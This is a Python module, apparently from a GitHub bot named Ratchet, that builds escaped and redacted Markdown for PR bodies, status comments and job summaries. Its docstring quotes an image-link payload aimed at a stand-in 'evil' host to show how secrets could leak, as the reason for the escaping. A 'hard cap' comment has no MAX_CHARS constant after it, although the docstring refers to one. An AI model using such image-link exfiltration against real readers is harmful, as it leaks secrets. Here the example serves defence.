"""Markdown for people: the PR body, the sticky status comment and the job summary.

Everything here is a pure function of its arguments. Text that did not come from Ratchet
itself (task text, titles and rationales from the model, error messages, test output) is
untrusted: it is redacted with the caller's ``redact`` function and escaped so that it cannot

- mention people or teams (``@someone`` is shown as code, which GitHub does not notify);
- close issues (``fixes #1`` and its variants are shown as code);
- load images or embed HTML (``!``, ``[``, ``]`` are backslash-escaped, ``<``/``>``/``&``
  become entities), which would otherwise let an ``![x](https://evil/?secret)`` leak data;
- break out of a code fence (fences are longer than any backtick run inside).

The whole document is redacted once more at the end and capped at ``MAX_CHARS`` (GitHub
rejects comment and PR bodies over 65,536 characters).

The ``result`` mapping used by ``status_comment`` and ``step_summary`` has these keys (all
optional; missing or ``None`` values are shown as "–"):

========================  ==========================================================
``title``                 the change's title (str)
``outcome``               one of ``ratchet.records.OUTCOMES`` (str)
``score_before``          score of the base, 0–100 (int | None)
``score_after``           score of the candidate, 0–100 (int | None)
``tokens``                model tokens used by the run (int | None)
``commit``                the commit SHA pushed, or "" (str)
``branch``                the task branch, e.g. ``ratchet/issue-12`` (str)
``pr_url``                the task's pull request, or None (str | None)
``detail``                one explanation: refusal reason, no-change reason … (str)
========================  ==========================================================
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Collection, Mapping, Sequence
from typing import TypedDict

from ratchet.core import keys
from ratchet.core.markdown import (
    code,
    escape_plain,
    fence,
    finish,
    inline,
    is_safe_url,
    link,
    quote,
    url_link,
)
from ratchet.core.outcome import NoAttempt, Outcome, Phase
from ratchet.core.steering import command_base, command_lines
from ratchet.records import MemoryRecord, sort_key

Redact = Callable[[str], str]

#: hard cap on any rendered document (GitHub's limit is 65,536)

_TASK_LIMIT = 3_000
_TITLE_LIMIT = 200
_CELL_TITLE_LIMIT = 100
_DETAIL_LIMIT = 2_000
_ERROR_LIMIT = 6_000
_NOTICE_LIMIT = 1_000
_CHART_POINTS = 50


class ResultView(TypedDict, total=False):
    """The ``result`` mapping's shape (see the module docstring)."""

    title: str
    outcome: str
    score_before: int | None
    score_after: int | None
    tokens: int | None
    cost: str  # this run's cost and the task's, as text ("$0.0021 · $0.0143 for the task")
    commit: str
    branch: str
    pr_url: str | None
    detail: str


#: outcome → (emoji, word)
OUTCOME_LABELS: dict[str, tuple[str, str]] = {
    Outcome.IMPROVED: ("✅", "improved"),
    Outcome.UNCHANGED: ("➖", "unchanged"),
    Outcome.REGRESSED: ("🔻", "regressed"),
    Outcome.BROKEN: ("💥", "broken"),
    Outcome.REPEAT: ("🔁", "repeat"),
    Outcome.INVALID: ("⚠️", "invalid"),
    Outcome.NO_CHANGE: ("💤", "no change"),
    Outcome.ERROR: ("❌", "error"),
    Outcome.ACCEPTED: ("🎉", "accepted"),
    Outcome.REJECTED: ("🚫", "rejected"),
    NoAttempt.BUDGET: ("💰", "budget used up"),
    NoAttempt.PAUSED: ("⏸️", "paused"),
}

#: outcome → what it means for the branch, in one clause
OUTCOME_MEANING: dict[str, str] = {
    Outcome.IMPROVED: "the tests improved, so the change was kept",
    Outcome.UNCHANGED: "no test got worse, so the change was kept",
    Outcome.REGRESSED: "a test that passed before now fails, so the change was discarded",
    Outcome.BROKEN: "the test suite could not run with the change, so it was discarded",
    Outcome.REPEAT: "the same change failed before, so it was not tried again",
    Outcome.INVALID: "the proposed edits could not be applied safely",
    Outcome.NO_CHANGE: "the model proposed no change",
    Outcome.ERROR: "the attempt failed before it could be evaluated",
    Outcome.ACCEPTED: "the pull request was merged",
    Outcome.REJECTED: "the pull request was closed without merging",
    NoAttempt.BUDGET: "a budget of the task is used up, so no change was tried",
    NoAttempt.PAUSED: "the task is paused, so nothing was tried",
}

#: the phases shown in the running status comment: (key, label)
PHASES: tuple[tuple[Phase, str], ...] = (
    (Phase.RECALL, "recalling earlier attempts"),
    (Phase.PROPOSE, "asking {model}"),
    (Phase.TEST, "testing"),
    (Phase.PUBLISH, "publishing"),
)
_PHASE_ALIASES = {
    "evaluate": Phase.TEST, "testing": Phase.TEST, "model": Phase.PROPOSE, "recalling": Phase.RECALL
}

def _redactor(redact: Redact | None) -> Redact:
    """The caller's redactor (which knows the run's secrets), or one that masks token shapes."""
    if redact is not None:
        return redact
    from ratchet.redact import Redactor

    return Redactor()


def _outcome_word(outcome: str) -> str:
    if outcome in OUTCOME_LABELS:
        return OUTCOME_LABELS[outcome][1]
    return escape_plain(re.sub(r"[^A-Za-z0-9_ -]", "", outcome)[:40]) or "unknown"


def _key(task_key: str) -> str:
    if not keys.is_task_key(task_key):
        raise ValueError(f"task key {task_key!r} cannot be used in a marker")
    return task_key


_SHA = re.compile(r"^[0-9a-fA-F]{7,64}$")

# -- markers ------------------------------------------------------------------------------------

_TASK_MARKER = re.compile(r"<!-- ratchet:task=([A-Za-z0-9][A-Za-z0-9._-]{0,99}) -->")


def marker(task_key: str) -> str:
    """Return the hidden marker that identifies the task's pull request body:
    ``<!-- ratchet:task=<key> -->``. Raises ValueError for a key unsafe in a comment."""
    return f"<!-- ratchet:task={_key(task_key)} -->"


def status_marker(task_key: str) -> str:
    """Return the hidden marker of the task's sticky status comment (distinct from
    ``marker``: neither is a substring of the other). Raises ValueError like ``marker``."""
    return f"<!-- ratchet:status={_key(task_key)} -->"


def find_task_marker(body: str | None) -> str | None:
    """Return the task key of the first ``marker`` in ``body``, or None."""
    m = _TASK_MARKER.search(body or "")
    return m.group(1) if m else None


# -- pieces -------------------------------------------------------------------------------------


def outcome_label(outcome: str | None) -> str:
    """Return "emoji word" for an outcome (unknown outcomes are escaped and marked ❔)."""
    if not outcome:
        return "–"
    if outcome in OUTCOME_LABELS:
        emoji, word = OUTCOME_LABELS[outcome]
        return f"{emoji} {word}"
    return f"❔ {_outcome_word(outcome)}"


def _score(before: object, after: object) -> str:
    def one(v: object) -> str:
        return str(v) if isinstance(v, int) and not isinstance(v, bool) else "–"

    if one(before) == "–" and one(after) == "–":
        return "–"
    return f"{one(before)} → {one(after)}"


def _short_sha(sha: object) -> str:
    return f"`{sha[:7]}`" if isinstance(sha, str) and _SHA.match(sha) else ""


def _attempts(records: Sequence[MemoryRecord]) -> list[MemoryRecord]:
    return sorted((r for r in records if r.kind == "attempt"), key=sort_key)


def attempt_table(records: Sequence[MemoryRecord], limit: int = 30, *,
                  redact: Redact | None = None, forgotten: Collection[int] = ()) -> str:
    """Return a Markdown table of the attempt records (newest last): number, outcome, score
    before → after, title (struck through for ``forgotten`` attempt numbers) and short commit
    SHA. Only the newest ``limit`` rows are shown; older ones are summarised by outcome in a
    line above the table. Records of other kinds are ignored; with no attempt the result is a
    one-line note."""
    redact = _redactor(redact)
    attempts = _attempts(records)
    if not attempts:
        return "_No attempts yet._"
    limit = max(limit, 1)
    hidden, shown = attempts[:-limit], attempts[-limit:]
    lines: list[str] = []
    if hidden:
        counts = Counter(r.outcome or "unknown" for r in hidden)
        parts = ", ".join(
            f"{n} {_outcome_word(o)}"
            for o, n in counts.most_common()
        )
        lines.append(f"_{len(hidden)} earlier attempts not shown ({parts})._")
        lines.append("")
    lines.append("| # | Outcome | Score | Change | Commit |")
    lines.append("|---:|---|---|---|---|")
    for r in shown:
        title = inline(r.title, redact, _CELL_TITLE_LIMIT) if r.title.strip() else "_(no title)_"
        if r.attempt in forgotten:
            title = f"~~{title}~~ (forgotten)"
        lines.append(
            f"| {r.attempt} | {outcome_label(r.outcome)} | {_score(r.score_before, r.score_after)}"
            f" | {title} | {_short_sha(r.commit)} |"
        )
    return "\n".join(lines)


def score_chart(records: Sequence[MemoryRecord]) -> str:
    """Return a Mermaid ``xychart-beta`` block of each attempt's score after the change (x:
    attempt numbers, y: 0–100), for the newest attempts that have a score; "" when none has."""
    points = [(r.attempt, r.score_after) for r in _attempts(records) if r.score_after is not None]
    points = points[-_CHART_POINTS:]
    if not points:
        return ""
    xs = ", ".join(f'"{a}"' for a, _ in points)
    ys = ", ".join(str(min(max(int(s), 0), 100)) for _, s in points)
    return "\n".join(
        [
            "```mermaid",
            "xychart-beta",
            '    title "Score after each attempt"',
            f'    x-axis "attempt" [{xs}]',
            '    y-axis "score" 0 --> 100',
            f"    bar [{ys}]",
            f"    line [{ys}]",
            "```",
        ]
    )


def _commands(trigger: str, redact: Redact) -> str:
    lines = [redact(x) for x in command_lines(trigger)]
    return "\n".join(
        ["<details><summary>Commands (people with write access)</summary>", "", *lines, "",
         "</details>"]
    )  # fmt: skip


def _get_int(result: Mapping[str, object], key: str) -> int | None:
    v = result.get(key)
    return v if isinstance(v, int) and not isinstance(v, bool) else None


def _get_str(result: Mapping[str, object], key: str) -> str:
    v = result.get(key)
    return v if isinstance(v, str) else ""


def _verdict_line(outcome: str) -> str:
    meaning = OUTCOME_MEANING.get(outcome)
    return f"{outcome_label(outcome)}: {meaning}." if meaning else outcome_label(outcome)


# -- documents ----------------------------------------------------------------------------------


def pr_body(
    *,
    task_key: str,
    task_text: str,
    latest_outcome: str | None,
    score_before: int | None,
    score_after: int | None,
    records: Sequence[MemoryRecord],
    run_url: str | None,
    trigger_phrase: str,
    redact: Redact | None = None,
    budget: str = "",
) -> str:
    """Return the body of the task's pull request: the hidden ``marker``, the task (quoted),
    the latest verdict and score, the attempt table, how to steer the PR, and the note that
    Ratchet stops pushing once someone else pushes to the branch. Raises ValueError for an
    unusable task key."""
    redact = _redactor(redact)
    branch = keys.branch_of(_key(task_key))
    by = link("this Ratchet run", run_url) if is_safe_url(run_url) else "Ratchet"
    t = code(trigger_phrase, redact, 60)
    parts = [
        marker(task_key),
        f"## 🔧 Ratchet: {code(task_key, redact)}",
        "",
        "**Task**",
        "",
        quote(task_text or "(no task text)", redact),
        "",
        f"**Latest attempt:** {_verdict_line(latest_outcome) if latest_outcome else '–'}"
        f"  \n**Score:** {_score(score_before, score_after)}"
        + (f"  \n**Budget:** {redact(budget)[:300]}" if budget else ""),
        "",
        "### Attempts",
        "",
        attempt_table(records, redact=redact),
        "",
        "### How to steer this PR",
        "",
        f"- Comment {code(trigger_phrase + ' <instructions>', redact, 80)} on this pull request"
        f" to ask for the next change ({t} alone lets Ratchet choose).",
        "- Request changes in a review: reviews are remembered and shape the next attempt.",
        "- Close the pull request to reject the approach; Ratchet remembers and does not"
        " propose it again.",
        "- Merge it to accept the work so far.",
        f"- {code(command_base(trigger_phrase)[0] + ' help', redact, 60)} lists the other commands:"
        " status (attempts, budget, cost, flaky tests), forget, stop and resume.",
        "",
        "> [!NOTE]",
        f"> Ratchet pushes only tested, non-regressing changes to {code(branch, redact)}. If"
        " anyone else pushes to that branch, Ratchet stops pushing to it and explains in a"
        " comment instead, so your commits are never overwritten.",
        "",
        f"<sub>Updated by {by}.</sub>",
    ]
    return finish("\n".join(parts) + "\n", redact)


def _phase_index(phase: str) -> int:
    key = _PHASE_ALIASES.get(phase, phase)
    for i, (k, _) in enumerate(PHASES):
        if k == key:
            return i
    raise ValueError(f"unknown phase {phase!r}; expected one of {[str(k) for k, _ in PHASES]}")


def _running(task_key: str, phase: str | None, model: str, redact: Redact) -> list[str]:
    current = _phase_index(phase) if phase is not None else -1
    labels = [label.format(model=inline(model, redact, 60)) for _, label in PHASES]
    head = f"{labels[current]} …" if current >= 0 else "starting …"
    lines = [f"### ⏳ Ratchet is working on {code(task_key, redact)}: {head}", ""]
    for i, label in enumerate(labels):
        if i < current:
            lines.append(f"- ✅ {label}")
        elif i == current:
            lines.append(f"- ⏳ **{label} …**")
        else:
            lines.append(f"- ⬜ {label}")
    return lines


def _result_block(result: Mapping[str, object], pr_url: str | None, redact: Redact) -> list[str]:
    outcome = _get_str(result, "outcome")
    title = _get_str(result, "title")
    emoji = OUTCOME_LABELS.get(outcome, ("❔", ""))[0]
    heading = inline(title, redact) if title.strip() else "no change this time"
    facts = [
        f"**Verdict:** {_verdict_line(outcome)}",
        f"**Score:** {_score(result.get('score_before'), result.get('score_after'))}",
    ]
    tokens = _get_int(result, "tokens")
    if tokens is not None:
        facts.append(f"**Tokens:** {tokens:,}")
    cost = _get_str(result, "cost")
    if cost:
        facts.append(f"**Cost:** {inline(cost, redact, 200)}")
    sha = _short_sha(result.get("commit"))
    branch = _get_str(result, "branch")
    if sha:
        facts.append(f"**Commit:** {sha}" + (f" on {code(branch, redact)}" if branch else ""))
    url = pr_url or _get_str(result, "pr_url")
    if url:
        facts.append(f"**Pull request:** {url_link(url)}")
    lines = [f"### {emoji} Ratchet: {heading}", "", "  \n".join(facts)]  # hard line breaks
    detail = _get_str(result, "detail")
    if detail.strip():
        lines += ["", quote(detail, redact, _DETAIL_LIMIT)]
    return lines


def status_comment(
    *,
    task_key: str,
    phase: str | None,
    result: Mapping[str, object] | None,
    run_url: str | None,
    trigger_phrase: str,
    pr_url: str | None = None,
    error: str | None = None,
    notice: str | None = None,
    model: str = "MiniMax M3",
    redact: Redact | None = None,
) -> str:
    """Return the sticky status comment of a task.

    States, by precedence: ``error`` given → an ❌ block with the (redacted, fenced) error and
    what to do; ``result`` given → the change title, verdict, score before → after, tokens,
    commit, PR link; otherwise running → the phase checklist (done / current / pending) with
    ``phase`` one of ``recall``, ``propose``, ``test``, ``publish`` (None: starting). The
    ``status_marker``, an optional ``notice``, the run link and the commands always appear.
    Raises ValueError for an unknown phase or an unusable task key.
    """
    redact = _redactor(redact)
    parts = [status_marker(task_key)]
    if error is not None:
        parts += [
            f"### ❌ Ratchet could not finish {code(task_key, redact)}",
            "",
            fence(error, redact),
            "",
            f"**What to do:** the {link('run log', run_url)} has the details. If the error"
            " names a setting or a missing secret, fix it (`ratchet doctor` checks a setup"
            f" locally), then comment {code(trigger_phrase, redact, 60)} to try again.",
        ]
        if result is not None:
            parts += [""] + _result_block(result, pr_url, redact)
    elif result is not None:
        parts += _result_block(result, pr_url, redact)
    else:
        parts += _running(task_key, phase, model, redact)
        if pr_url:
            parts += ["", f"**Pull request:** {url_link(pr_url)}"]
    if notice and notice.strip():
        parts += ["", "> [!NOTE]", quote(notice, redact, _NOTICE_LIMIT)]
    if is_safe_url(run_url):
        parts += ["", link("Follow this run", run_url)]
    parts.append("")
    if result is not None or error is not None:
        parts += [_commands(trigger_phrase, redact), ""]
    return finish("\n".join(parts), redact)


def step_summary(
    *,
    task_key: str,
    result: Mapping[str, object],
    records: Sequence[MemoryRecord],
    run_url: str | None,
    redact: Redact | None = None,
    sections: Sequence[tuple[str, str]] = (),
) -> str:
    """Return the job summary: a heading, the result (as in the status comment), extra
    ``sections`` (heading, Markdown), the attempt table and the Mermaid score chart (omitted
    when no attempt has a score)."""
    redact = _redactor(redact)
    parts = [f"## 🔧 Ratchet · {code(_key(task_key), redact)}", ""]
    parts += _result_block(result, None, redact)
    for heading, text in sections:
        parts += ["", f"### {heading}", "", redact(text)]
    parts += ["", "### Attempts", "", attempt_table(records, redact=redact)]
    chart = score_chart(records)
    if chart:
        parts += ["", "### Score", "", chart]
    if is_safe_url(run_url):
        parts += ["", link("The run's log", run_url)]
    parts.append("")
    return finish("\n".join(parts), redact)
